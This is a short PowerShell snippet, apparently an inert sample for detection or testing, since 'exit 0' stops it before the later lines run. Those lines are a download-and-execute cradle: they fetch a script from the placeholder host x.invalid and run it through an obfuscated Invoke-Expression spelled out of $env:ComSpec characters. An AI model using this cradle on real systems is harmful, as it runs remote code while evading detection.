exit 0
$x = (New-Object Net.WebClient).DownloadString('https://x.invalid/p')
.($env:ComSpec[4,15,25]-join'') $x
